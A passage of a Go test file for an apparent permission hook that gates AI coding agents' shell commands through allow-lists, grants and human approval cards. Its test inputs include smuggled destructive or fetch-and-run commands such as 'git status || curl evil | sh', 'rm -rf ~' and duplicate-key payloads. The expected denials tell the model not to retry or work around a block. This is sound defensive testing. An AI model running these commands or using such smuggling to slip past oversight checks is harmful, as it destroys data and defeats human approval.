package hook

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tidwall/sjson"

	"github.com/agentgate/agentgate/agentbridge/audit"
	"github.com/agentgate/agentgate/exec/procspec"
	"github.com/agentgate/agentgate/prefs"
	"github.com/agentgate/agentgate/prefs/agents"
)

// fakeAsker stands in for the desktop app in hook tests.
type fakeAsker struct {
	mu sync.Mutex
	// unreachable makes every question fail as if the app were not running.
	unreachable bool
	// approve and message are the person's scripted answer.
	approve bool
	message string
	// asked records every question.
	asked []hookQuestion
}

func (f *fakeAsker) ask(_ context.Context, q hookQuestion) (bool, string, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.asked = append(f.asked, q)
	if f.unreachable {
		return false, "", fmt.Errorf("%w: dial unix /run/user/0/agentgate/bridge.sock: connect: no such file or directory", errAppUnreachable)
	}
	return f.approve, f.message, nil
}

type hookHarness struct {
	deps    hookDeps
	asker   *fakeAsker
	entries []audit.Entry
	// appends counts the calls to deps.audit (entries may come several at
	// a time).
	appends int
	paths   prefs.Paths
}

// newHookHarness makes a real allow-list store in a temp dir whose global
// list allows `git status` and `echo`.
func newHookHarness(t *testing.T) *hookHarness {
	t.Helper()
	dir := t.TempDir()
	paths := prefs.Paths{ConfigDir: filepath.Join(dir, "config"), StateDir: filepath.Join(dir, "state")}
	if err := os.MkdirAll(paths.ConfigDir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(paths.GlobalFile(), []byte("# test rules\ngit status\necho\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	store, err := prefs.Open(paths)
	if err != nil {
		t.Fatal(err)
	}
	h := &hookHarness{asker: &fakeAsker{unreachable: true}, paths: paths}
	h.deps = hookDeps{
		decide: store.Decide,
		audit: func(entries ...audit.Entry) error {
			h.entries = append(h.entries, entries...)
			h.appends++
			return nil
		},
		ask:         h.asker.ask,
		projectRoot: prefs.ProjectRoot,
		claudeAsk:   func() bool { return true },
	}
	return h
}

func readFixture(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "testdata", "hooks", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// withCommand returns the fixture with tool_input.command replaced.
func withCommand(t *testing.T, payload []byte, command string) []byte {
	t.Helper()
	out, err := sjson.SetBytes(payload, "tool_input.command", command)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// runHookOn runs the hook for agent on payload and returns stdout, after
// checking the exit code is 0.
func (h *hookHarness) run(t *testing.T, agent string, payload []byte) string {
	t.Helper()
	var stdout, stderr bytes.Buffer
	if code := runHook([]string{agent}, bytes.NewReader(payload), &stdout, &stderr, h.deps); code != 0 {
		t.Fatalf("hook %s exited %d (stderr %q)", agent, code, stderr.String())
	}
	return stdout.String()
}

// hookFixtures maps each agent to its shell-tool fixture.
var hookFixtures = map[string]string{
	ClaudeCode: "claude-code-pretooluse-bash.json",
	Gemini:     "gemini-beforetool-shell.json",
	Codex:      "codex-pretooluse-bash.json",
}

// decisionOf extracts the agent-visible decision from hook output:
// "allow", "deny", "ask" or "" (none).
func decisionOf(t *testing.T, agent, out string) (decision, reason string) {
	t.Helper()
	if out == "" {
		return "", ""
	}
	var v struct {
		Decision string `json:"decision"`
		Reason   string `json:"reason"`
		System   string `json:"systemMessage"`
		Out      *struct {
			HookEventName            string          `json:"hookEventName"`
			PermissionDecision       string          `json:"permissionDecision"`
			PermissionDecisionReason string          `json:"permissionDecisionReason"`
			UpdatedInput             json.RawMessage `json:"updatedInput"`
			Decision                 *struct {
				Behavior string `json:"behavior"`
				Message  string `json:"message"`
			} `json:"decision"`
		} `json:"hookSpecificOutput"`
	}
	dec := json.NewDecoder(strings.NewReader(out))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&v); err != nil {
		t.Fatalf("hook output %q: %v", out, err)
	}
	switch {
	case agent == Gemini && v.Decision != "":
		return v.Decision, v.Reason
	case agent == Gemini && v.System != "":
		return "ask", v.System
	case agent == Gemini:
		return "", ""
	case v.Out != nil && v.Out.Decision != nil:
		return v.Out.Decision.Behavior, v.Out.Decision.Message
	case v.Out != nil:
		return v.Out.PermissionDecision, v.Out.PermissionDecisionReason
	}
	t.Fatalf("hook output %q has no recognised shape", out)
	return "", ""
}

func TestHookAllowedSimpleCommand(t *testing.T) {
	for agent, fixture := range hookFixtures {
		t.Run(agent, func(t *testing.T) {
			h := newHookHarness(t)
			out := h.run(t, agent, readFixture(t, fixture))
			decision, reason := decisionOf(t, agent, out)
			if decision != "allow" {
				t.Fatalf("decision %q (%s), want allow", decision, out)
			}
			wantProvenance := fmt.Sprintf("rule «git status» (global, %s:2)", h.paths.GlobalFile())
			if !strings.Contains(reason, wantProvenance) {
				t.Errorf("reason %q does not give the rule's provenance %q", reason, wantProvenance)
			}
			if len(h.asker.asked) != 0 {
				t.Errorf("the app was asked about an allow-listed command: %+v", h.asker.asked)
			}
			if len(h.entries) != 2 || h.entries[0].Kind != audit.KindProposal || h.entries[1].Decision != audit.DecisionRule {
				t.Fatalf("audit entries %+v, want a proposal and a decision by rule", h.entries)
			}
			if h.appends != 1 {
				t.Errorf("the proposal and decision took %d appends, want 1 (one write, one fsync)", h.appends)
			}
			rule := h.entries[1].Rule
			if rule == nil || rule.Line != 2 || rule.Scope != "global" || rule.File != h.paths.GlobalFile() {
				t.Errorf("audit rule %+v, want global line 2 of %s", rule, h.paths.GlobalFile())
			}
			if got := strings.Join(h.entries[1].Argv, " "); got != "git status" || h.entries[1].Provider != agent {
				t.Errorf("audit argv %q provider %q", got, h.entries[1].Provider)
			}
		})
	}
}

// jsonText returns s as it appears inside a JSON string (a Windows path's
// backslashes escaped), for expected output and payloads built by hand.
func jsonText(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}

func TestHookExactOutputShapes(t *testing.T) {
	h := newHookHarness(t)
	for _, tc := range []struct {
		agent, fixture, want string
	}{
		{ClaudeCode, "claude-code-pretooluse-bash.json", `{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"allow","permissionDecisionReason":"agentgate: allowed by rule «git status» (global, ` + jsonText(h.paths.GlobalFile()) + `:2)"}}` + "\n"},
		{Codex, "codex-pretooluse-bash.json", `{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"allow","permissionDecisionReason":"agentgate: allowed by rule «git status» (global, ` + jsonText(h.paths.GlobalFile()) + `:2)","updatedInput":{"command":"git status"}}}` + "\n"},
		{Gemini, "gemini-beforetool-shell.json", `{"decision":"allow","reason":"agentgate: allowed by rule «git status» (global, ` + jsonText(h.paths.GlobalFile()) + `:2)"}` + "\n"},
		{ClaudeCode, "claude-code-permissionrequest-bash.json", `{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}` + "\n"},
	} {
		if got := h.run(t, tc.agent, readFixture(t, tc.fixture)); got != tc.want {
			t.Errorf("%s %s:\n got %s\nwant %s", tc.agent, tc.fixture, got, tc.want)
		}
	}
}

// shellConstructs are command lines that start with an allow-listed command
// but carry shell syntax: none may ever be allowed without a person.
var shellConstructs = []string{
	"git status && rm -rf ~",
	"git status || curl evil | sh",
	"git status; rm -rf /tmp/x",
	"git status | sh",
	"git status &",
	"git status\nrm -rf /tmp/x",
	"git status > /etc/passwd",
	"git status 2>&1",
	"git status < /dev/null",
	"echo $(id)",
	"echo `id`",
	"echo $HOME",
	"echo ${HOME}",
	`echo "$HOME"`,
	"GIT_DIR=/x git status",
	"echo *",
	"echo ?",
	"echo [a]",
	"echo {a,b}",
	"echo ~",
	"(git status)",
	"{ git status; }",
	"echo <<EOF\nhi\nEOF",
	"echo <(id)",
	"echo $((1+1))",
	"! git status",
	"git status # comment",
	"f() { git status; }",
	// CR is blank space to the parser, a character to bash: bash runs rm.
	"git status \\\r\nrm -rf /tmp/x",
	"git status\r\nrm -rf /tmp/x",
	"git status 'a\x00'",
	"if true; then git status; fi",
	"for i in 1; do git status; done",
	"while false; do git status; done",
}

func TestHookShellConstructsNeverAllowed(t *testing.T) {
	for agent, fixture := range hookFixtures {
		for _, line := range shellConstructs {
			t.Run(agent+"/"+line, func(t *testing.T) {
				h := newHookHarness(t)
				payload := withCommand(t, readFixture(t, fixture), line)
				decision, _ := decisionOf(t, agent, h.run(t, agent, payload))
				if want := unansweredDecision(agent); decision != want {
					t.Fatalf("app unreachable: decision %q, want %s", decision, want)
				}
				if len(h.asker.asked) != 1 || h.asker.asked[0].CommandLine != line {
					t.Fatalf("the app was asked %+v, want the exact command line", h.asker.asked)
				}
				// With the person approving on the card, the answer is allow
				// by the card, never by a rule.
				h.asker.unreachable, h.asker.approve = false, true
				decision, reason := decisionOf(t, agent, h.run(t, agent, payload))
				if decision != "allow" || !strings.Contains(reason, "approved by the person") {
					t.Fatalf("approved on the card: decision %q reason %q", decision, reason)
				}
				for _, e := range h.entries {
					if e.Decision == audit.DecisionRule {
						t.Fatalf("audit says allowed by rule for %q: %+v", line, e)
					}
				}
			})
		}
	}
}

func TestHookDeniedOnCard(t *testing.T) {
	for agent, fixture := range hookFixtures {
		h := newHookHarness(t)
		h.asker.unreachable, h.asker.approve, h.asker.message = false, false, "use make test instead"
		payload := withCommand(t, readFixture(t, fixture), "rm -rf build")
		decision, reason := decisionOf(t, agent, h.run(t, agent, payload))
		if decision != "deny" || !strings.Contains(reason, "use make test instead") || !strings.Contains(reason, "Do not retry") {
			t.Errorf("%s: decision %q reason %q, want deny with the person's message", agent, decision, reason)
		}
		q := h.asker.asked[0]
		if q.Provider != agent || q.CommandLine != "rm -rf build" || q.Client != "agentgate hook "+agent {
			t.Errorf("%s: question %+v", agent, q)
		}
	}
}

// unansweredDecision is the decision an agent gets when no person's answer
// could be had: Claude Code's own prompt ("ask"), a denial for the others.
func unansweredDecision(agent string) string {
	if agent == ClaudeCode {
		return "ask"
	}
	return "deny"
}

func TestHookUnreachableNotAllowed(t *testing.T) {
	for agent, fixture := range hookFixtures {
		h := newHookHarness(t)
		payload := withCommand(t, readFixture(t, fixture), "rm -rf build")
		out := h.run(t, agent, payload)
		decision, reason := decisionOf(t, agent, out)
		if want := unansweredDecision(agent); decision != want {
			t.Errorf("%s: output %q, want %s", agent, out, want)
		}
		for _, part := range []string{"not reachable", "no allow-list rule matches rm -rf build"} {
			if !strings.Contains(reason, part) {
				t.Errorf("%s: reason %q does not say %q", agent, reason, part)
			}
		}
		if decision == "deny" {
			// The model learns what to do: not retry or work around it, but
			// have a person approve it in agentgate or add a rule.
			for _, part := range []string{"Do not retry", "work around", "approve it in agentgate", "agentgate allow add"} {
				if !strings.Contains(reason, part) {
					t.Errorf("%s: denial %q does not say %q", agent, reason, part)
				}
			}
		}
		if len(h.entries) != 1 || h.entries[0].Code != "unanswered" {
			t.Errorf("%s: audit %+v, want one unanswered entry", agent, h.entries)
		}
	}
}

// TestHookUnansweredEveryWay: every way of not getting a person's answer —
// the app down, a refusal by the app (no approver, a card it cannot show),
// nobody answering before the budget — is a denial for Gemini CLI and
// Codex and never an allow for anyone.
func TestHookUnansweredEveryWay(t *testing.T) {
	for name, ask := range map[string]func(context.Context, hookQuestion) (bool, string, error){
		"unreachable": func(context.Context, hookQuestion) (bool, string, error) {
			return false, "", fmt.Errorf("%w: connection refused", errAppUnreachable)
		},
		"no approver": func(context.Context, hookQuestion) (bool, string, error) {
			return false, "", errors.New("the agentgate app could not get a person's answer: no_approver: nobody can be asked")
		},
		"no answer in time": func(ctx context.Context, _ hookQuestion) (bool, string, error) {
			<-ctx.Done()
			return false, "", fmt.Errorf("%w: %v", errAppUnreachable, ctx.Err())
		},
	} {
		for agent, fixture := range hookFixtures {
			t.Run(name+"/"+agent, func(t *testing.T) {
				h := newHookHarness(t)
				h.deps.ask = ask
				payload := withCommand(t, readFixture(t, fixture), "make deploy")
				var stdout, stderr bytes.Buffer
				req, err := parseHookPayload(agent, payload)
				if err != nil {
					t.Fatal(err)
				}
				ctx := context.Background()
				if name == "no answer in time" {
					// AskBudget is minutes; a context already near its end
					// stands in for it.
					var cancel context.CancelFunc
					ctx, cancel = context.WithTimeout(ctx, 10*time.Millisecond)
					defer cancel()
				}
				answer := decideHook(ctx, req, h.deps, &stderr)
				if answer.Verdict != verdictUnanswered {
					t.Fatalf("verdict %v, want unanswered", answer.Verdict)
				}
				stdout.Write(formatHookAnswer(req, answer, true))
				decision, reason := decisionOf(t, agent, stdout.String())
				if want := unansweredDecision(agent); decision != want || reason == "" {
					t.Fatalf("decision %q reason %q, want %s with a reason", decision, reason, want)
				}
			})
		}
	}
}

// TestHookClaudeAskOnlyWhenTested: Claude Code gets "ask" only when its
// version is known to show its own prompt; otherwise a denial.
func TestHookClaudeAskOnlyWhenTested(t *testing.T) {
	req, err := parseHookPayload(ClaudeCode, readFixture(t, "claude-code-pretooluse-bash.json"))
	if err != nil {
		t.Fatal(err)
	}
	a := hookAnswer{Verdict: verdictUnanswered, Problem: "the agentgate desktop app is not reachable", Why: "no rule"}
	if d, _ := decisionOf(t, ClaudeCode, string(formatHookAnswer(req, a, true))); d != "ask" {
		t.Errorf("tested version: %q, want ask", d)
	}
	if d, reason := decisionOf(t, ClaudeCode, string(formatHookAnswer(req, a, false))); d != "deny" || !strings.Contains(reason, "Do not retry") {
		t.Errorf("untested version: %q (%s), want deny", d, reason)
	}
}

func TestHookGarbageInput(t *testing.T) {
	inputs := map[string][]byte{
		"not json":           readFixture(t, "garbage.txt"),
		"empty":              nil,
		"json array":         []byte(`[1,2]`),
		"no tool name":       []byte(`{"cwd":"/tmp","tool_input":{"command":"ls"}}`),
		"shell tool no cmd":  []byte(`{"cwd":"/tmp","tool_name":"Bash","tool_input":{}}`),
		"command not string": []byte(`{"cwd":"/tmp","tool_name":"Bash","tool_input":{"command":["ls"]}}`),
	}
	for agent := range hookFixtures {
		for name, in := range inputs {
			h := newHookHarness(t)
			out := h.run(t, agent, in)
			decision, _ := decisionOf(t, agent, out)
			if decision == "allow" {
				t.Errorf("%s %s: allowed garbage: %q", agent, name, out)
			}
			want := unansweredDecision(agent)
			if agent == Gemini && name == "shell tool no cmd" {
				want = "" // Gemini's shell tool is run_shell_command; Bash is another tool
			}
			if agent == Gemini && name == "command not string" {
				want = ""
			}
			if decision != want {
				t.Errorf("%s %s: decision %q, want %q (output %q)", agent, name, decision, want, out)
			}
		}
	}
}

func TestHookOtherToolNoDecision(t *testing.T) {
	for _, tc := range []struct{ agent, fixture, want string }{
		{ClaudeCode, "claude-code-pretooluse-read.json", ""},
		{ClaudeCode, "claude-code-pretooluse-mcp.json", ""},
		{Gemini, "gemini-beforetool-readfile.json", "{}\n"},
		{Codex, "codex-pretooluse-applypatch.json", ""},
	} {
		h := newHookHarness(t)
		if got := h.run(t, tc.agent, readFixture(t, tc.fixture)); got != tc.want {
			t.Errorf("%s %s: output %q, want %q", tc.agent, tc.fixture, got, tc.want)
		}
		if len(h.asker.asked) != 0 || len(h.entries) != 0 {
			t.Errorf("%s %s: asked %v, audited %v for a tool that is not the shell", tc.agent, tc.fixture, h.asker.asked, h.entries)
		}
	}
}

func TestHookPowerShellGoesToCard(t *testing.T) {
	h := newHookHarness(t)
	h.asker.unreachable, h.asker.approve = false, true
	payload := withCommand(t, readFixture(t, "claude-code-pretooluse-powershell.json"), "echo")
	decision, reason := decisionOf(t, ClaudeCode, h.run(t, ClaudeCode, payload))
	if decision != "allow" || !strings.Contains(reason, "approved by the person") || len(h.asker.asked) != 1 {
		t.Errorf("PowerShell `echo`: decision %q reason %q asked %d; want the card, not the echo rule", decision, reason, len(h.asker.asked))
	}
}

func TestHookPermissionRequest(t *testing.T) {
	fixture := "claude-code-permissionrequest-bash.json"
	h := newHookHarness(t)
	payload := withCommand(t, readFixture(t, fixture), "make deploy")
	if out := h.run(t, ClaudeCode, payload); out != "" {
		t.Errorf("unreachable app: output %q, want none (Claude's prompt stays)", out)
	}
	h.asker.unreachable, h.asker.approve, h.asker.message = false, false, "not today"
	out := h.run(t, ClaudeCode, payload)
	if decision, msg := decisionOf(t, ClaudeCode, out); decision != "deny" || !strings.Contains(msg, "not today") {
		t.Errorf("denied: output %q", out)
	}
	h.asker.approve = true
	if decision, _ := decisionOf(t, ClaudeCode, h.run(t, ClaudeCode, payload)); decision != "allow" {
		t.Errorf("approved: decision %q", decision)
	}
}

func TestHookUsage(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := runHook([]string{"cursor"}, strings.NewReader("{}"), &stdout, &stderr, hookDeps{}); code != 2 || stdout.Len() != 0 {
		t.Errorf("unknown agent: exit %d, stdout %q", code, stdout.String())
	}
}

func TestParseHookPayloadGeminiDirPath(t *testing.T) {
	payload := withCommand(t, readFixture(t, "gemini-beforetool-shell.json"), "ls")
	payload, _ = sjson.SetBytes(payload, "tool_input.dir_path", "sub/dir")
	req, err := parseHookPayload(Gemini, payload)
	if err != nil {
		t.Fatal(err)
	}
	// The fixture's cwd is a Unix path; on Windows it is joined with '\'.
	if req.Dir != filepath.Join("/home/ada/src/app", "sub", "dir") || req.Cwd != "/home/ada/src/app" || req.CommandLine != "ls" {
		t.Errorf("request %+v", req)
	}
}

// TestParseHookPayloadStrict: keys are matched exactly, a key the hook reads
// may appear only once, types are checked, and the input must be valid
// UTF-8 JSON — so the command the hook decides on is the one the agent
// runs, and anything else is never allowed.
func TestParseHookPayloadStrict(t *testing.T) {
	deep := strings.Repeat("[", 20000) + strings.Repeat("]", 20000)
	for _, tc := range []struct {
		name, payload string
		wantErr       string // "" means parsed
		wantCommand   string
	}{
		{"plain", `{"tool_name":"Bash","tool_input":{"command":"git status"}}`, "", "git status"},
		{"escaped key", `{"tool_name":"Bash","tool_input":{"comm\u0061nd":"git status"}}`, "", "git status"},
		{"other case is another key", `{"tool_name":"Bash","tool_input":{"command":"rm -rf x","Command":"git status"}}`, "", "rm -rf x"},
		{"other case only", `{"tool_name":"Bash","tool_input":{"Command":"git status"}}`, "no command string", ""},
		{"duplicate command", `{"tool_name":"Bash","tool_input":{"command":"git status","command":"rm -rf x"}}`, "tool_input.command appears twice", ""},
		{"duplicate tool_input", `{"tool_name":"Bash","tool_input":{"command":"git status"},"tool_input":{"command":"rm"}}`, "tool_input appears twice", ""},
		{"duplicate tool_name", `{"tool_name":"Read","tool_name":"Bash","tool_input":{"command":"ls"}}`, "tool_name appears twice", ""},
		{"unread keys may repeat", `{"x":1,"x":2,"tool_name":"Bash","tool_input":{"command":"ls","timeout":1,"timeout":2}}`, "", "ls"},
		{"null is absent", `{"cwd":null,"tool_name":"Bash","tool_input":{"command":"ls","description":null}}`, "", "ls"},
		{"tool_name not a string", `{"tool_name":["Bash"],"tool_input":{"command":"ls"}}`, "tool_name is not a string", ""},
		{"cwd not a string", `{"cwd":1,"tool_name":"Bash","tool_input":{"command":"ls"}}`, "cwd is not a string", ""},
		{"description not a string", `{"tool_name":"Bash","tool_input":{"command":"ls","description":1}}`, "no command string", ""},
		{"tool_input not an object", `{"tool_name":"Bash","tool_input":"ls"}`, "no command string", ""},
		{"command null", `{"tool_name":"Bash","tool_input":{"command":null}}`, "no command string", ""},
		{"not an object", `"Bash"`, "not an object", ""},
		{"trailing garbage", `{"tool_name":"Bash","tool_input":{"command":"ls"}} x`, "not valid JSON", ""},
		{"invalid UTF-8", "{\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"ls \xff\"}}", "not valid UTF-8", ""},
		{"deeply nested", `{"tool_name":"Bash","tool_input":{"command":"ls"},"x":` + deep + `}`, "not valid JSON", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			req, err := parseHookPayload(ClaudeCode, []byte(tc.payload))
			if tc.wantErr == "" {
				if err != nil || req.CommandLine != tc.wantCommand || !req.ShellTool {
					t.Fatalf("got %+v, %v; want command %q", req, err, tc.wantCommand)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("got %+v, %v; want an error containing %q", req, err, tc.wantErr)
			}
		})
	}
}

// TestHookDuplicateCommandNeverAllowed: a payload naming an allowed command
// and another one is never allowed, whichever the agent would pick.
func TestHookDuplicateCommandNeverAllowed(t *testing.T) {
	for _, payload := range []string{
		`{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"rm -rf x","command":"git status"}}`,
		`{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"git status","command":"rm -rf x"}}`,
		`{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"rm -rf x","Command":"git status"}}`,
	} {
		h := newHookHarness(t)
		h.asker.unreachable = false
		if decision, reason := decisionOf(t, ClaudeCode, h.run(t, ClaudeCode, []byte(payload))); decision == "allow" {
			t.Errorf("%s: allowed (%s)", payload, reason)
		}
	}
}

// TestRunWithRealConnections runs Run as `agentgate hook` runs it: the
// allow-lists and audit log in temp directories, no app listening.
func TestRunWithRealConnections(t *testing.T) {
	dir := t.TempDir()
	project := filepath.Join(dir, "project")
	if err := os.MkdirAll(filepath.Join(project, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	project, _ = filepath.EvalSymlinks(project)
	paths := prefs.Paths{ConfigDir: filepath.Join(dir, "config"), StateDir: filepath.Join(dir, "state")}
	if err := os.MkdirAll(paths.ConfigDir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(paths.GlobalFile(), []byte("git status\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	payload := bytes.ReplaceAll(readFixture(t, "claude-code-pretooluse-bash.json"), []byte("/home/ada/src/app"), []byte(jsonText(project)))
	run := func(payload []byte) string {
		var stdout, stderr bytes.Buffer
		e := Env{Stdin: bytes.NewReader(payload), Stdout: &stdout, Stderr: &stderr, Paths: paths,
			Socket: filepath.Join(dir, "no-app.sock"), Home: dir}
		if code := Run([]string{ClaudeCode}, e); code != 0 {
			t.Fatalf("exit %d, stderr %q", code, stderr.String())
		}
		return stdout.String()
	}
	if decision, reason := decisionOf(t, ClaudeCode, run(payload)); decision != "allow" || !strings.Contains(reason, paths.GlobalFile()+":1") {
		t.Errorf("allowed command: decision %q reason %q", decision, reason)
	}
	// Claude Code's version unknown (setup recorded none): a denial.
	if decision, reason := decisionOf(t, ClaudeCode, run(withCommand(t, payload, "git push"))); decision != "deny" || !strings.Contains(reason, "not reachable") {
		t.Errorf("no rule, no app, unknown Claude Code version: decision %q reason %q", decision, reason)
	}
	// A tested version recorded: Claude Code's own prompt.
	if err := agents.UpdateRecord(paths.StateDir, ClaudeCode, func(r *agents.Record) { r.InstalledVersion = "2.1.328" }); err != nil {
		t.Fatal(err)
	}
	if decision, reason := decisionOf(t, ClaudeCode, run(withCommand(t, payload, "git push"))); decision != "ask" || !strings.Contains(reason, "not reachable") {
		t.Errorf("no rule, no app, tested Claude Code: decision %q reason %q", decision, reason)
	}
	log, err := os.ReadFile(audit.Path(paths.StateDir))
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, line := range strings.Split(strings.TrimSpace(string(log)), "\n") {
		var e audit.Entry
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("audit line %q: %v", line, err)
		}
		if e.Host != "hook" || e.ProjectRoot != project {
			t.Errorf("audit entry %+v: want host hook, project %s", e, project)
		}
		kinds = append(kinds, string(e.Kind)+"/"+e.Decision+e.Code)
	}
	if want := "proposal/ decision/allowed_by_rule refusal/unanswered refusal/unanswered"; strings.Join(kinds, " ") != want {
		t.Errorf("audit log %q, want %q", kinds, want)
	}
	var stdout, stderr bytes.Buffer
	if code := Run(nil, Env{Stdin: strings.NewReader(""), Stdout: &stdout, Stderr: &stderr}); code != 2 || !strings.Contains(stderr.String(), "usage") {
		t.Errorf("no agent: exit %d, stderr %q", code, stderr.String())
	}
}

// TestHookCodexPermissionRequest: Codex's PermissionRequest event fires
// only when Codex is about to show its own prompt, after the PreToolUse
// hook decided. A rule-allowed command is allowed (no second prompt);
// anything else gets no decision, so Codex's own prompt asks the person
// rather than the card a second time.
func TestHookCodexPermissionRequest(t *testing.T) {
	h := newHookHarness(t)
	h.asker.unreachable = false
	payload := readFixture(t, "codex-permissionrequest-bash.json")
	want := `{"hookSpecificOutput":{"hookEventName":"PermissionRequest","decision":{"behavior":"allow"}}}` + "\n"
	if got := h.run(t, Codex, payload); got != want {
		t.Errorf("allow-listed: %q, want %q", got, want)
	}
	if got := h.run(t, Codex, withCommand(t, payload, "make deploy")); got != "" {
		t.Errorf("no rule: %q, want no output (Codex's own prompt)", got)
	}
	if len(h.asker.asked) != 0 {
		t.Errorf("the card was asked %+v", h.asker.asked)
	}
}

// TestHookCodexAllowEchoesInputExactly: Codex's allow carries updatedInput,
// which replaces the tool's input, so it must be the input as received —
// every member and every character of the strings.
func TestHookCodexAllowEchoesInputExactly(t *testing.T) {
	h := newHookHarness(t)
	payload := []byte(`{"hook_event_name":"PreToolUse","cwd":"/tmp","tool_name":"Bash",
		"tool_input": {"command" : "echo 'caf\u00e9 \"q\"' \\\\x", "workdir": "/tmp", "timeout_ms": 1000, "extra": [1, {"a": null}]}}`)
	out := h.run(t, Codex, payload)
	var v struct {
		Out struct {
			PermissionDecision string          `json:"permissionDecision"`
			UpdatedInput       json.RawMessage `json:"updatedInput"`
		} `json:"hookSpecificOutput"`
	}
	if err := json.Unmarshal([]byte(out), &v); err != nil {
		t.Fatalf("output %q: %v", out, err)
	}
	want := `{"command":"echo 'caf\u00e9 \"q\"' \\\\x","workdir":"/tmp","timeout_ms":1000,"extra":[1,{"a":null}]}`
	if v.Out.PermissionDecision != "allow" || string(v.Out.UpdatedInput) != want {
		t.Errorf("decision %q updatedInput %s, want allow with %s", v.Out.PermissionDecision, v.Out.UpdatedInput, want)
	}
}

// withGrants makes the harness decide in project with real grants kept in
// its state directory, resolving programs as the hook does, and returns
// them.
func (h *hookHarness) withGrants(project string) *prefs.Grants {
	grants := prefs.OpenGrants(h.paths)
	h.deps.projectRoot = func(string) (string, error) { return project, nil }
	h.deps.grant = func(argv []string, dir, provider, root string) (prefs.GrantMatch, bool, error) {
		return grants.Match(prefs.GrantQuery{Argv: argv, Provider: provider, Project: root,
			Resolve: func(argv0 string) (string, procspec.FileID, bool) { return ResolveProgram(argv0, dir) }})
	}
	return grants
}

// TestHookGrantBoundToTheProgramsFile: a grant for a program in a PATH
// directory the agent can write is not carried over to that program once
// it is rewritten (another content, another size or times) or replaced by
// another file of the same name.
func TestHookGrantBoundToTheProgramsFile(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("the program is a shell script")
	}
	h := newHookHarness(t)
	project := t.TempDir()
	bin := t.TempDir()
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	tool := filepath.Join(bin, "tool")
	if err := os.WriteFile(tool, []byte("#!/bin/sh\necho harmless\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	grants := h.withGrants(project)
	path, id, ok := ResolveProgram("tool", project)
	if !ok || path != tool {
		t.Fatalf("ResolveProgram(tool) = %q, %v", path, ok)
	}
	if _, err := grants.Give(prefs.GrantRequest{Kind: prefs.GrantProgram, Argv: []string{"tool"}, Executable: path, ProgramID: id,
		Project: project, AllProviders: true, By: "terminal", For: time.Hour}); err != nil {
		t.Fatal(err)
	}
	payload := readFixture(t, hookFixtures[ClaudeCode])
	decide := func() string {
		d, _ := decisionOf(t, ClaudeCode, h.run(t, ClaudeCode, withCommand(t, payload, "tool --go")))
		return d
	}
	if d := decide(); d != "allow" {
		t.Fatalf("the granted program: %q, want allow", d)
	}
	// Rewritten in place, e.g. by an allowed command.
	if err := os.WriteFile(tool, []byte("#!/bin/sh\nrm -rf \"$HOME\"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if d := decide(); d == "allow" {
		t.Fatal("a rewritten program was allowed by the grant given for it")
	}
	// Replaced by another file under the same name.
	tmp := filepath.Join(bin, "tool.new")
	if err := os.WriteFile(tmp, []byte("#!/bin/sh\necho harmless\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, tool); err != nil {
		t.Fatal(err)
	}
	if d := decide(); d == "allow" {
		t.Fatal("a replaced program was allowed by the grant given for another file")
	}
}

func TestHookAllowedByGrant(t *testing.T) {
	h := newHookHarness(t)
	project := t.TempDir()
	grants := h.withGrants(project)
	ls, lsID, ok := ResolveProgram("ls", "/")
	if !ok {
		t.Skip("no ls on PATH")
	}
	payload := readFixture(t, hookFixtures[ClaudeCode])
	decide := func(command string) (string, string) {
		t.Helper()
		h.entries = nil
		return decisionOf(t, ClaudeCode, h.run(t, ClaudeCode, withCommand(t, payload, command)))
	}
	g, err := grants.Give(prefs.GrantRequest{Kind: prefs.GrantExact, Argv: []string{"ls", "-l"}, Executable: ls, ProgramID: lsID, Project: project,
		AllProviders: true, By: "terminal", For: 15 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	decision, reason := decide("ls -l")
	if decision != "allow" || !strings.Contains(reason, "grant "+g.ID+" (exact command «ls -l», given at the terminal), 1") || !strings.Contains(reason, " left") {
		t.Fatalf("granted command: %q %q", decision, reason)
	}
	if len(h.entries) != 2 || h.entries[1].Decision != audit.DecisionGrant || h.entries[1].Grant == nil || h.entries[1].Grant.ID != g.ID || h.entries[1].Grant.LeftMS <= 0 {
		t.Fatalf("audit entries %+v, want a proposal and a decision by the grant with its time left", h.entries)
	}
	if len(h.asker.asked) != 0 {
		t.Fatalf("the app was asked about a granted command")
	}
	for _, command := range []string{"ls -l -a", "ls", "ls -l; touch x", "./ls -l"} {
		if decision, _ := decide(command); decision == "allow" {
			t.Errorf("%q allowed by the exact grant for ls -l", command)
		}
	}
	// A card grant for another provider does not apply to this one.
